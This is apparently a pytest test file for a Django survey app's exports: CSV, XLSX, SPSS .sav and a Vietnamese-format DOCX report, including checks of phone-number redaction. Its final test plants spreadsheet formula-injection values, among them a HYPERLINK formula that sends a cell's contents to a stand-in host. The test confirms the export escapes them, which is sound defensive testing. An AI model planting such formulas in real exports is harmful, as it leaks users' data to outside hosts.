"""Exports read back: CSV, XLSX (openpyxl), SPSS .sav (pyreadstat), and the DOCX report."""

from __future__ import annotations

import csv
import io
import tempfile

import docx
import pyreadstat
import pytest
from django.urls import reverse
from docx.oxml.ns import qn
from openpyxl import load_workbook

from surveys.analysis import exports, report_docx
from surveys.analysis.results import analyse
from surveys.tests.analysis_world import build_world

pytestmark = pytest.mark.django_db


@pytest.fixture
def survey(cell_a):
    survey = build_world(cell_a)
    survey.weighting_method, survey.weighting_variables = "poststrat", ["gioi_tinh"]
    survey.save()
    return survey


def download(client, user, survey, fmt, params=None) -> bytes:
    client.force_login(user)
    response = client.get(reverse("survey_export", args=[survey.slug, fmt]), params or {})
    assert response.status_code == 200
    return response.content


def test_csv_reads_back(client, survey, vanphong):
    content = download(client, vanphong, survey, "csv")
    assert content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) == 10
    first = rows[0]
    assert first["ma_phieu"] == "uuid:ks-chinh-trang-1"
    assert first["dia_ban"] == "Tổ dân phố 1"
    assert (first["gioi_tinh"], first["kenh"], first["kenh/loa"], first["kenh/hop_to"]) == (
        "nam", "loa zalo", "1", "0")
    assert first["so_nguoi"] == "2"
    assert float(first["trong_so"]) == pytest.approx(150.0)
    assert rows[6]["kenh/loa"] == ""  # did not answer the question: no 0/1
    assert rows[0]["moi"] == "" and rows[6]["moi"] == "co"  # asked only in version 2
    third = rows[2]["y_kien"]
    assert "0912345678" not in third and "⟨SĐT⟩" in third


def test_csv_follows_the_filters(client, survey, vanphong):
    content = download(client, vanphong, survey, "csv", {"gender": "nu"})
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert {row["gioi_tinh"] for row in rows} == {"nu"} and len(rows) == 6
    # Weights are those of the whole sample, not re-weighted inside the filter.
    assert float(rows[0]["trong_so"]) == pytest.approx(400 / 6)


def test_xlsx_reads_back(client, survey, vanphong):
    book = load_workbook(io.BytesIO(download(client, vanphong, survey, "xlsx")))
    assert book.sheetnames == ["Dữ liệu", "Câu hỏi", "Phương án trả lời", "Tần suất",
                               "Thông tin"]
    data = list(book["Dữ liệu"].values)
    header = list(data[0])
    assert len(data) == 11
    assert data[1][header.index("dia_ban")] == "Tổ dân phố 1"
    assert data[1][header.index("so_nguoi")] == 2
    questions = {row[0]: row[1] for row in book["Câu hỏi"].iter_rows(min_row=2, values_only=True)}
    assert questions["hai_long"] == "Ông/bà có hài lòng với việc chỉnh trang Hòa Bình không?"
    choices = list(book["Phương án trả lời"].iter_rows(min_row=2, values_only=True))
    assert ("gioi_tinh", "nu", "Nữ") in choices
    freq = [r for r in book["Tần suất"].iter_rows(min_row=2, values_only=True)
            if r[0] == "hai_long" and r[2] == "Có"][0]
    assert freq[3] == 5 and freq[4] == 50.0 and freq[5] == pytest.approx(58.33)
    info = dict(book["Thông tin"].iter_rows(min_row=2, values_only=True))
    assert info["Gia quyền"] == "Hậu phân tầng: Giới tính"


def read_sav(content: bytes):
    with tempfile.NamedTemporaryFile(suffix=".sav") as handle:
        handle.write(content)
        handle.flush()
        return pyreadstat.read_sav(handle.name, output_format="dict")


def test_sav_reads_back_with_labels(client, survey, vanphong):
    data, meta = read_sav(download(client, vanphong, survey, "sav"))
    labels = meta.column_names_to_labels
    assert labels["hai_long"] == "Ông/bà có hài lòng với việc chỉnh trang Hòa Bình không?"
    assert labels["kenh_hop_to"] == "Ông/bà nhận thông tin qua kênh nào?: Họp tổ dân phố"
    assert meta.variable_value_labels["gioi_tinh"] == {1.0: "Nam", 2.0: "Nữ"}
    assert meta.variable_value_labels["dong_y_1"] == {1.0: "Đồng ý", 2.0: "Không đồng ý",
                                                      3.0: "Chưa rõ"}
    assert meta.number_rows == 10
    assert list(data["gioi_tinh"][:5]) == [1.0, 1.0, 1.0, 1.0, 2.0]
    assert list(data["kenh_zalo"][:2]) == [1.0, 0.0]
    assert data["so_nguoi"][1] == 4.0
    assert data["dia_ban"][0] == "Tổ dân phố 1"
    assert data["trong_so"][0] == pytest.approx(150.0)
    assert meta.variable_measure["hai_long"] == "nominal"


def test_spss_names_are_valid_and_unique():
    names = exports.spss_names(["ý_kiến_1", "kenh/loa", "kenh_loa", "1abc", "a" * 80])
    assert names["ý_kiến_1"] == "y_kien_1"
    assert names["kenh/loa"] == "kenh_loa" and names["kenh_loa"] == "kenh_loa_2"
    assert names["1abc"] == "v_1abc"
    assert len(names["a" * 80]) == 64


def test_whole_number_codes_are_kept_in_sav(cell_a, vanphong):
    from surveys.models import Question

    survey = build_world(cell_a, slug="ks-so")
    Question.objects.filter(form_version__survey=survey, name="hai_long").update(
        choices=[{"name": "1", "label": "Có"}, {"name": "2", "label": "Không"}])
    from surveys.models import Response

    for response in Response.objects.filter(survey=survey):
        response.data["hai_long"] = "1" if response.data["hai_long"] == "co" else "2"
        response.save()
    analysis = analyse(survey)
    data, meta = read_sav(exports.to_sav(exports.build_export(analysis)))
    assert meta.variable_value_labels["hai_long"] == {1.0: "Có", 2.0: "Không"}
    assert list(data["hai_long"][:4]) == [1.0, 1.0, 1.0, 2.0]


# --- DOCX ------------------------------------------------------------------------------------


@pytest.fixture
def report(client, survey, vanphong):
    client.force_login(vanphong)
    response = client.get(reverse("survey_report_docx", args=[survey.slug]))
    assert response.status_code == 200
    return docx.Document(io.BytesIO(response.content))


def all_text(document) -> str:
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts += [cell.text for cell in row.cells]
    return "\n".join(parts)


def test_report_layout_follows_36_hd_vptw(report):
    section = report.sections[0]
    assert section.page_width.mm == pytest.approx(210, abs=0.1)
    assert section.page_height.mm == pytest.approx(297, abs=0.1)
    assert (section.top_margin.mm, section.bottom_margin.mm) == (pytest.approx(20, abs=0.1),
                                                                 pytest.approx(20, abs=0.1))
    assert section.left_margin.mm == pytest.approx(30, abs=0.1)
    assert section.right_margin.mm == pytest.approx(15, abs=0.1)
    for run in report.element.body.iter(qn("w:r")):
        if run.findall(qn("w:t")):
            fonts = run.find(qn("w:rPr")).find(qn("w:rFonts"))
            assert fonts.get(qn("w:ascii")) == "Times New Roman"
            assert fonts.get(qn("w:eastAsia")) == "Times New Roman"
    header = report.tables[0]
    left, right = (cell.text for cell in header.rows[0].cells)
    assert "ĐẢNG ỦY PHƯỜNG HÒA BÌNH" in left and "*" in left and "-BC/ĐU" in left
    assert right.startswith("ĐẢNG CỘNG SẢN VIỆT NAM")
    text = all_text(report)
    assert "BÁO CÁO" in text
    assert "Kết quả khảo sát dư luận xã hội: Khảo sát chỉnh trang đô thị Hòa Bình" in text
    assert "Nơi nhận:" in text


def test_report_has_tables_charts_and_findings(report):
    text = all_text(report)
    assert "I. MỤC ĐÍCH, ĐỐI TƯỢNG VÀ PHƯƠNG PHÁP" in text
    assert "gia quyền theo giới tính bằng phương pháp hậu phân tầng" in text
    assert "Bảng 4. Ông/bà có hài lòng với việc chỉnh trang Hòa Bình không?" in text
    table = next(t for t in report.tables if t.rows[0].cells[1].text == "Phương án"
                 and any(r.cells[1].text == "Có" for r in t.rows))
    row = next(r for r in table.rows if r.cells[1].text == "Có")
    assert [c.text for c in row.cells[2:5]] == ["5", "50,0", "58,3"]
    assert "MỨC ĐỘ ĐỒNG THUẬN" in text and "Việc lát lại vỉa hè là cần thiết." in text
    assert "Ý KIẾN, KIẾN NGHỊ CỦA NHÂN DÂN" in text
    assert "0912345678" not in text
    pictures = report.inline_shapes
    # One chart per single- or multiple-choice question: 8 (not the number, not the text).
    assert len(pictures) == 8
    assert pictures[0].width.mm == pytest.approx(report_docx.CHART_WIDTH_MM, abs=0.5)
    # Each chart sits right after its table.
    body = list(report.element.body.iterchildren())
    first_table = next(i for i, el in enumerate(body) if el.tag == qn("w:tbl")
                       and "Phương án" in "".join(t.text or "" for t in el.iter(qn("w:t"))))
    assert body[first_table + 1].findall(".//" + qn("w:drawing"))


def test_chart_png_is_a_png():
    png = report_docx.bar_chart_png(["Đồng ý", "Không đồng ý"], [70.0, 30.0])
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 2000


def test_csv_writes_formula_answers_as_text_and_numbers_as_numbers(client, survey, vanphong):
    from surveys.models import Response

    first = Response.objects.get(instance_id="uuid:ks-chinh-trang-1")
    first.data = {**first.data, "y_kien": '=HYPERLINK("http://x.example/?"&A1,"bấm")',
                  "so_nguoi": "-3"}
    first.save()
    second = Response.objects.get(instance_id="uuid:ks-chinh-trang-2")
    second.data = {**second.data, "y_kien": "@SUM(1+1)"}
    second.save()
    content = download(client, vanphong, survey, "csv")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0]["y_kien"].startswith("'=HYPERLINK(")
    assert rows[1]["y_kien"] == "'@SUM(1+1)"
    assert rows[0]["so_nguoi"] == "-3"  # a number, not text: left as it is
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())
